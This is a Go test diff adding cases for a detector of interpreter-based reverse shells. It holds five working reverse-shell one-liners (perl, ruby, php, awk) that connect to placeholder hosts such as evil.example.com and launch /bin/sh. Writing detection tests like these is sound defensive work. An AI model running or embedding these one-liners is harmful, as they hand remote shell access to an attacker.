@@ -958,3 +958,26 @@ func TestDeferredAndWrappedShells(t *testing.T) {
 		t.Errorf("awk printing the word system: %s", dump(f))
 	}
 }
+
+func TestInterpreterReverseShells(t *testing.T) {
+	cases := []struct {
+		src, via, host string
+		port           int
+	}{
+		{`perl -e 'use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'`, "perl", "10.0.0.1", 0},
+		{`perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"10.0.0.2:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`, "perl", "10.0.0.2", 4242},
+		{`ruby -rsocket -e 'f=TCPSocket.open("10.0.0.1",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`, "ruby", "10.0.0.1", 1234},
+		{`php -r '$sock=fsockopen("evil.example.com",4242);exec("/bin/sh -i <&3 >&3 2>&3");'`, "php", "evil.example.com", 4242},
+		{`awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { s |& getline c; while ((c |& getline) > 0) print $0 |& s }}' /dev/null`, "awk", "10.0.0.1", 4242},
+	}
+	for _, tc := range cases {
+		f := run(t, tc.src)
+		n := findNet(f, tc.via)
+		if n == nil || n.Host != tc.host || n.Port != tc.port || !n.ExecShell {
+			t.Errorf("%q: network %s", tc.src, dump(f))
+		}
+	}
+	if f := run(t, `perl -e 'print "hello.world"'`); len(f.Network) != 0 {
+		t.Errorf("perl print: %s", dump(f))
+	}
+}
